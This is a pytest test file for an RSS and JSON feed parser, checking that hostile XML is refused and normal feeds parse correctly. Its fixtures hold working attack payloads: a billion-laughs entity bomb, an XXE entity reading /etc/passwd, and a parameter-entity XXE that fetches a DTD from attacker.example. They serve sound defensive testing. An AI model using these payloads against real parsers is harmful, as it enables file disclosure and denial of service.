import json

import pytest

from pipeline.poll.parse import HostileFeed, guard_xml, parse_feed

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<rss version="2.0"><channel><title>&lol2;</title></channel></rss>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>"""
PARAM_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<rss version="2.0"/>"""
RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [
  <!ENTITY copy "&#169;">
]>
<rss version="2.0"><channel><title>Wire &copy;</title><language>en</language>
<item><title>One &amp; two</title><link>/a/1?utm_source=x</link><guid>g1</guid>
<description>&lt;p&gt;Hello &lt;b&gt;world&lt;/b&gt;&lt;/p&gt;</description>
<pubDate>Thu, 13 Mar 2025 08:10:00 GMT</pubDate><author>ann@example.com (Ann)</author></item>
</channel></rss>"""


@pytest.mark.parametrize(
    ("doc", "match"),
    [
        (BILLION_LAUGHS, "expansion attack"),
        (XXE, "external entity 'xxe'"),
        (PARAM_XXE, "external parameter entity"),
        (XXE.replace(b'encoding="utf-8"', b"").decode().encode("utf-16"), "external entity"),
        (XXE.decode().encode("utf-16-le"), "external entity"),
    ],
)
def test_hostile_documents_are_refused(doc: bytes, match: str) -> None:
    with pytest.raises(HostileFeed, match=match):
        parse_feed(doc, "http://feeds.example/rss")


def test_too_many_declarations_are_refused() -> None:
    decls = "".join(f'<!ENTITY e{i} "x">' for i in range(100))
    with pytest.raises(HostileFeed, match="100 entity declarations"):
        guard_xml(f"<!DOCTYPE rss [{decls}]><rss/>".encode())


def test_safe_internal_entity_and_relative_links() -> None:
    feed = parse_feed(
        RSS, "http://feeds.example/world/rss", {"Content-Type": "application/rss+xml"}
    )
    assert feed.title == "Wire ©" and feed.language == "en" and not feed.malformed
    (entry,) = feed.entries
    assert entry.link == "http://feeds.example/a/1?utm_source=x"
    assert entry.title == "One & two" and entry.summary == "Hello world"
    assert entry.published_at is not None and entry.published_at.year == 2025


def test_ill_formed_feed_keeps_feedparsers_reason() -> None:
    broken = b"<rss version='2.0'><channel><item><title>A & B</title><link>http://e.example/x</link></item>"
    feed = parse_feed(broken, "http://e.example/rss", {"Content-Type": "text/xml"})
    assert feed.malformed and feed.bozo_reason
    assert feed.entries[0].link == "http://e.example/x"


def test_json_feed() -> None:
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "JF",
        "items": [
            {
                "id": "1",
                "url": "https://e.example/1",
                "title": "T",
                "content_text": "body",
                "date_published": "2025-03-13T08:00:00Z",
                "authors": [{"name": "Ann"}],
            }
        ],
    }
    feed = parse_feed(json.dumps(doc).encode(), "https://e.example/feed.json")
    assert feed.version == "json1"
    assert feed.entries[0].link == "https://e.example/1" and feed.entries[0].authors == ["Ann"]


def test_not_a_feed() -> None:
    with pytest.raises(ValueError):
        parse_feed(b'{"hello": 1}', "https://e.example/x", {"Content-Type": "application/json"})
